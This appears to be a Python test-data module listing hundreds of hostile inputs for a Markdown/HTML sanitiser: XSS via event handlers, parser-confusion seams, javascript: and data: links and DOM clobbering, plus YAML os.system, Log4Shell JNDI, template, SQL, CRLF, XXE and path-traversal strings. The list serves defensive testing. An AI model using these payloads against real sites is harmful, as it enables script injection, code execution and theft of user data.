"""Further hostile texts: tricks of their own, not other spellings of those in ``hostile``.

Events, what sanitisers were passed with, schemes and encodings, pages' own names taken, other
formats' seams. Each asks for ``alert`` or takes something a page relies on.
"""

from __future__ import annotations

EVENTS = [
    "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=alert(1)>x</b>",
    "<b style=transition:1s tabindex=1 ontransitionend=alert(1)>x</b>", "<b onwheel=alert(1)>x</b>",
    "<div onscroll=alert(1) style=overflow:scroll>x</div>", "<b contenteditable onbeforeinput=alert(1)>x</b>",
    "<b contenteditable oncut=alert(1)>x</b>", "<b contenteditable onpaste=alert(1)>x</b>", "<b oncopy=alert(1)>x</b>",
    "<b draggable=true ondragstart=alert(1)>x</b>", "<b ondrop=alert(1)>x</b>", "<b oncontextmenu=alert(1)>x</b>",
    "<b ondblclick=alert(1)>x</b>", "<b onauxclick=alert(1)>x</b>", "<input oninvalid=alert(1) required>", "<input oninput=alert(1)>",
    "<input type=image src=x onerror=alert(1)>", "<input type=search onsearch=alert(1)>", "<form onsubmit=alert(1)><button>x</button></form>",
    "<form onreset=alert(1)><input type=reset></form>", "<form onformdata=alert(1)><button>x</button></form>",
    "<body onhashchange=alert(1)>", "<body onmessage=alert(1)>", "<body onpopstate=alert(1)>", "<body onbeforeprint=alert(1)>",
    "<body onunload=alert(1)>", "<body onbeforeunload=alert(1)>", "<body onresize=alert(1)>", "<body onstorage=alert(1)>",
    "<body onoffline=alert(1)>", "<frameset onload=alert(1)>", "<audio controls onvolumechange=alert(1)>", "<video autoplay onplay=alert(1)>",
    "<video oncanplay=alert(1)><source src=x></video>", "<track src=x default oncuechange=alert(1)>", "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form>",
    "<dialog oncancel=alert(1)>x</dialog>", "<b popover id=x onbeforetoggle=alert(1)>x</b><button popovertarget=x>x</button>",
    "<b onpointerrawupdate=alert(1)>x</b>", "<b ongotpointercapture=alert(1)>x</b>", "<b ontouchstart=alert(1)>x</b>",
    "<b onselectstart=alert(1)>x</b>", "<b onfocusin=alert(1) tabindex=1 autofocus>x</b>", "<b onsecuritypolicyviolation=alert(1)>x</b>",
    "<slot onslotchange=alert(1)>x</slot>", "<object onerror=alert(1)>", "<script onerror=alert(1) src=x></script>", "<link rel=stylesheet href=x onerror=alert(1)>",
    "<style onload=alert(1)></style>", "<svg><animate onend=alert(1) attributeName=x dur=1s>", "<svg><animate onrepeat=alert(1) attributeName=x dur=1s repeatCount=2>",
    "<svg><discard onbegin=alert(1)>", "<svg><image href=x onerror=alert(1)>", "<svg><title onload=alert(1)>x</title></svg>",
]  # fmt: skip

SEAMS = [
    "<math><mtext><table><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1>\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<svg><p><style><!--</style><img src=x onerror=alert(1)>-->",
    "<math><mi><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">", "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=</style><img/onerror=alert(1) src>",
    "<noembed><img title=\"</noembed><img src onerror=alert(1)>\">", "<noframes><img title=\"</noframes><img src onerror=alert(1)>\">",
    "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>", "<title><a title=\"</title><img src=x onerror=alert(1)>\">", "<select><style></select><img src=x onerror=alert(1)></style>",
    "<table><td><style><img title=\"</style><img src=x onerror=alert(1)>\">", "<select><iframe></select><img src=x onerror=alert(1)></iframe>", "<svg><desc><noscript></desc><img src=x onerror=alert(1)>",
    "<annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml>", "<math><annotation-xml encoding=text/html><script>alert(1)</script>",
    "<svg><foreignObject><math><mi><script>alert(1)</script>", "<svg><desc><script>alert(1)</script></desc>", "<svg><![CDATA[><img src=x onerror=alert(1)>]]>",
    "<p title=\"<!--\"><img src=x onerror=alert(1)>\"-->", "<!-- --!><img src=x onerror=alert(1)> -->", "<!--!><img src=x onerror=alert(1)>", "<!---><script>alert(1)</script>-->",
    "<?x ><img src=x onerror=alert(1)>?>", "<!x><script>alert(1)</script>", "</ <img src=x onerror=alert(1)>", "</x onclick=alert(1)>", "<%<!--'%><script>alert(1)</script -->",
    "<a/href=\"x\"\fonclick=alert(1)>x</a>", "<a\u000bhref=x onclick=alert(1)>x</a>", "<a href=x\u2003onclick=alert(1)>x</a>", "<img src=x\u0000onerror=alert(1)>".replace("\u0000", "\ufffd"),
    "<b \"onclick=alert(1)>x</b>", "<b '=' onclick=alert(1)>x</b>", "<b x='a' onclick='alert(1)'b>x</b>", "<img src='a'onerror='alert(1)'>", "<img alt=\"a\\\" onerror=alert(1) src=x>",
    "<img srcset='x 1x' onerror=alert(1)>", "<picture><source srcset=x><img onerror=alert(1)></picture>", "<link rel=preload as=script href=data:,alert(1)>", "<link rel=modulepreload href=data:text/javascript,alert(1)>",
    "<script type=module>import('data:text/javascript,alert(1)')</script>", "<script type=importmap>{\"imports\":{\"x\":\"data:text/javascript,alert(1)\"}}</script>",
    "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"//a.example\"]}]}</script>", "<script nomodule>alert(1)</script>", "<script async defer src=//a.example/x.js></script>", "<script language=vbscript>alert 1</script>",
    "<template shadowrootmode=open><script>alert(1)</script></template>", "<portal src=javascript:alert(1)>", "<fencedframe src=javascript:alert(1)>", "<frame src=javascript:alert(1)>",
    "<object type=text/html data='data:text/html,<script>alert(1)</script>'>", "<embed type=image/svg+xml src='data:image/svg+xml,<svg onload=alert(1)>'>", "<iframe src=//a.example>", "<iframe srcdoc=\"<img src=x onerror=alert(1)>\" sandbox=allow-scripts>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src *\">", "<meta http-equiv=set-cookie content=x=1>", "<meta name=referrer content=unsafe-url>", "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]  # fmt: skip

SCHEMES = [
    "[x](\x01javascript:alert(1))", "[x](javascript\t:alert(1))", "[x](\u00a0javascript:alert(1))", "[x](java\u00adscript:alert(1))", "[x](ｊavascript:alert(1))", "[x](javascript&#x3A;alert(1))", "[x](javascript%3Aalert(1))",
    "[x](javascript://a.example/%0aalert(1))", "[x](feed:javascript:alert(1))", "[x](view-source:javascript:alert(1))", "[x](jar:javascript:alert(1)!/)", "[x](livescript:alert(1))", "[x](mocha:alert(1))", "[x](blob:null/alert(1))",
    "[x](filesystem:https://a.example/alert(1))", "[x](file:///etc/passwd)", "[x](\\\\a.example\\alert)", "[x](data:image/svg+xml,<svg onload=alert(1)>)", "[x](data:;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "[x](DATA:text/html,alert(1))",
    "[x](ms-word:ofe|u|https://a.example/alert)", "[x](tel:alert(1))", "[x](intent://a#Intent;S.x=alert(1);end)", "[x](../../../../../../etc/passwd)", "[x](?q=<script>alert(1)</script>)", "[x](#<img src=x onerror=alert(1)>)", "[x](https://a.example/%22onmouseover=alert(1)%22)",
    "[x](https://a.example/'onclick='alert(1))", "[x](<https://a.example/\"onclick=alert(1)\">)", "[x](https://a.example\nonclick=alert(1))", "[a](b 'c\" onclick=alert(1) d')", "[![x](x.png)](javascript:alert(1))", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x]: <javascript:alert(1)> \"x\"\n\n[x]", "[x]: javascript:alert(1) 'x' onclick=alert(1)", "[constructor]: javascript:alert(1)\n\n[constructor][]", "<https://a.example/\"onclick=alert(1)>", "<mailto:x@a.example\"onclick=alert(1)>", "https://a.example/\"><script>alert(1)</script>",
]  # fmt: skip

NAMES = [
    "<form id=vanban><input name=search></form> alert(1)", "<img name=getElementById> alert(1)", "<a id=__config href=data:alert(1)>x</a>", "<a id=__md_scope href=//a.example>x</a>", "<b id=__search>alert(1)</b>",
    "# {#__config} alert(1)", "<p class=md-search__form>alert(1)</p>", "<input type=password name=matkhau> alert(1)", "toString valueOf hasOwnProperty alert(1)", "prototype.alert=1", "window.vanban.search=alert",
    "V=alert;V(1)", "V(\"kho\",\"x\",{c:alert(1)})", "\");V(\"kho\",alert(1));//", "</td></tr></table><script>alert(1)</script>", "</main></body></html><script>alert(1)</script>", "</style><script>alert(1)</script>", "</svg><script>alert(1)</script>", "</pre></code><script>alert(1)</script>",
    "|alert(1)\n|<script>alert(1)</script>", "\n---\nloai: <script>alert(1)</script>\n---\n", "!!python/object/apply:os.system ['alert']", "&x [*x, *x] alert(1)", "${jndi:ldap://a.example/alert}", "{{7*7}}{{alert(1)}}", "{% include '/etc/passwd' %}alert", "<#assign x=alert(1)>", "#{alert(1)}", "@import url(alert)", "<esi:include src=//a.example/alert />",
    "--8<-- \"/etc/passwd\" alert", "::: alert(1)", ":material-alert:{onclick=alert(1)}", "[[alert|javascript:alert(1)]]", "$$\\href{javascript:alert(1)}{x}$$", "```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>]\n```", "~~~{onclick=alert(1)}\nalert\n~~~", "\\<script>alert(1)\\</script>",
    "BEGIN:VEVENT\r\nATTACH:javascript:alert(1)", "x\\nEND:VCALENDAR\\nalert(1)", "\t=HYPERLINK(\"javascript:alert(1)\")", "\r=alert(1)", "%0D%0ASet-Cookie:alert=1", "\"; drop table doc; -- alert(1)", "' or 1=1 -- alert(1)", "\x1b]8;;javascript:alert(1)\x1b\\x\x1b]8;;\x1b\\", "\ufeff<script>alert(1)</script>", "\u061c\u2066<script>alert(1)</script>\u2069", "<ſcript>alert(1)</ſcript>", "＜img src=x onerror=alert(1)＞",
    "<script>alert`1`</script>", "<script>top['al'+'ert'](1)</script>", "<script>\\u0061lert(1)</script>", "<script>setTimeout('alert(1)')</script>", "<script>fetch('//a.example/alert')</script>", "<img src=//a.example/alert.png>", "<img src=x onerror=\"&#97;&#108;&#101;&#114;&#116;(1)\">", "<!ENTITY % x SYSTEM 'file:///etc/passwd'> %x; alert",
]  # fmt: skip

TRICKS = (*EVENTS, *SEAMS, *SCHEMES, *NAMES)
